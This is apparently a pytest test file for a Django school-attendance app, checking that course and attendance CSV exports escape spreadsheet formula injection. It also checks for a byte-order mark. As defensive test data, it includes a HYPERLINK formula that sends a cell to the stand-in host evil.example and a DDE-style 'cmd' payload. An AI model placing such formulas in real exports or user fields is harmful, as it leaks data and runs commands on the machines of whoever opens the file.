"""CSV files a spreadsheet opens: a cell that begins like a formula is written as text, in the
course's CSV and the admin's attendance export alike."""

import csv
import io

import pytest
from django.urls import reverse

from students.csv_files import inert_cell
from students.models import AttendanceRecord, Student
from tests.factories import make_course, make_session, make_student, make_user
from tests.web.school import (
    school,  # noqa: F401 - a fixture
)

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_begins_like_a_formula_is_made_text(start):
    assert inert_cell(f"{start}1+2") == f"'{start}1+2"


def test_plain_cells_and_numbers_are_left_alone():
    assert [inert_cell(v) for v in ["Ada Lovelace", "S1", 87.5, None]] == ["Ada Lovelace", "S1", 87.5, None]


EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A3,"click")'


def csv_rows(response):
    # As Excel reads it: the byte-order mark says UTF-8 and is no part of the first cell.
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_every_csv_starts_with_a_byte_order_mark_so_excel_reads_accented_names(client, school):
    Student.objects.filter(pk=school.bob.pk).update(full_name="Zoë Ŝtraße")
    client.force_login(school.teacher)
    content = client.get(reverse("course_csv", args=[school.course.pk])).content
    assert content.startswith(b"\xef\xbb\xbf")
    assert "Zoë Ŝtraße" in content.decode("utf-8-sig")


def test_the_course_csv_writes_a_formula_name_as_text(client, school):
    Student.objects.filter(pk=school.bob.pk).update(full_name=EVIL_NAME, student_number="+S2")
    client.force_login(school.teacher)
    rows = csv_rows(client.get(reverse("course_csv", args=[school.course.pk])))
    assert ["'+S2", "'" + EVIL_NAME] in [row[:2] for row in rows]


def test_the_admins_attendance_csv_writes_a_formula_name_as_text(client, school):
    Student.objects.filter(pk=school.bob.pk).update(full_name="@SUM(1+1)*cmd|' /C calc'!A0")
    record = AttendanceRecord.objects.create(
        session=school.session, student=school.bob, status="present", source="manual"
    )
    client.force_login(school.admin)
    response = client.post(
        reverse("admin:students_attendancerecord_changelist"), {"action": "export_csv", "_selected_action": [record.pk]}
    )
    (header, row) = csv_rows(response)
    assert row[header.index("student")] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_attendance_csv_export_lists_the_selected_records(client):
    client.force_login(make_user("boss", is_staff=True, is_superuser=True))
    student = make_student("S7", "Ada Lovelace")
    session = make_session(make_course("CS1", students=[student]))
    record = AttendanceRecord.objects.create(session=session, student=student, status="late", source="photo")
    response = client.post(
        reverse("admin:students_attendancerecord_changelist"),
        {"action": "export_csv", "_selected_action": [record.pk]},
    )
    assert response.status_code == 200
    lines = response.content.decode("utf-8-sig").strip().splitlines()
    assert lines[0].startswith("course,session start,student number")
    assert lines[1].startswith("CS1,") and ",S7,Ada Lovelace,late," in lines[1]
